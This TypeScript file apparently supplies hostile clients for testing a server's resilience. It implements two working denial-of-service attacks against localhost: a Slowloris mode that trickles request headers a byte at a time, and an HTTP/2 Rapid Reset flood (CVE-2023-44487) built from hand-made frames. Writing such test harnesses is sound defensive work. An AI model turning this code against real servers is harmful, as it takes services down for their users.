import net from 'node:net'
import tls from 'node:tls'

/**
 * Clients that mean no good, in a process of their own: argv is `slow` or `reset`, port, count.
 * slow: each opens a connection and sends its head a byte every few seconds, for ever; one that is cut comes back.
 * reset: HTTP/2 over TLS; every connection opens streams and resets them at once, as fast as it can (CVE-2023-44487).
 */
const [mode = '', portText = '', countText = ''] = process.argv.slice(2)
const port = Number(portText)
const count = Number(countText)
let opened = 0

function slow(): void {
  const socket = net.connect(port, '127.0.0.1')
  const head = `GET / HTTP/1.1\r\nHost: localhost\r\nX-Slow: ${'a'.repeat(4096)}`
  let sent = 0
  const timer = setInterval(() => socket.write(head[sent++ % head.length] ?? 'a'), 3_000)
  socket.on('connect', () => {
    opened++
    socket.write(head.slice(0, 20))
    sent = 20
  })
  socket.on('error', () => {})
  socket.on('close', () => {
    clearInterval(timer)
    setTimeout(slow, 100)
  })
}

const frame = (type: number, flags: number, stream: number, payload: Buffer): Buffer => {
  const head = Buffer.alloc(9)
  head.writeUIntBE(payload.length, 0, 3)
  head[3] = type
  head[4] = flags
  head.writeUInt32BE(stream, 5)
  return Buffer.concat([head, payload])
}
// :method GET, :scheme https, :path /, :authority localhost (literal without indexing).
const headers = Buffer.concat([Buffer.from([0x82, 0x87, 0x84, 0x01, 9]), Buffer.from('localhost')])
const cancel = Buffer.from([0, 0, 0, 8])

function reset(): void {
  const socket = tls.connect({ port, host: '127.0.0.1', servername: 'localhost', ALPNProtocols: ['h2'], rejectUnauthorized: false })
  let stream = 1
  const burst = () => {
    const frames: Buffer[] = []
    for (let i = 0; i < 50; i++, stream += 2) frames.push(frame(1, 5, stream, headers), frame(3, 0, stream, cancel))
    if (socket.destroyed || stream > 2_000_000) return void socket.destroy()
    socket.write(Buffer.concat(frames), () => setImmediate(burst))
  }
  socket.on('secureConnect', () => {
    opened++
    socket.write(Buffer.concat([Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n'), frame(4, 0, 0, Buffer.alloc(0))]))
    burst()
  })
  socket.resume()
  socket.on('error', () => {})
  socket.on('close', () => setTimeout(reset, 50))
}

const begin = mode === 'slow' ? slow : reset
for (let i = 0; i < count; i++) {
  begin()
  if (i % 200 === 199) await new Promise((resolve) => setTimeout(resolve, 20))
}
const end = Date.now() + 30_000
while (opened < count * 0.95 && Date.now() < end) await new Promise((resolve) => setTimeout(resolve, 50))
process.stdout.write(`open ${opened}\n`)
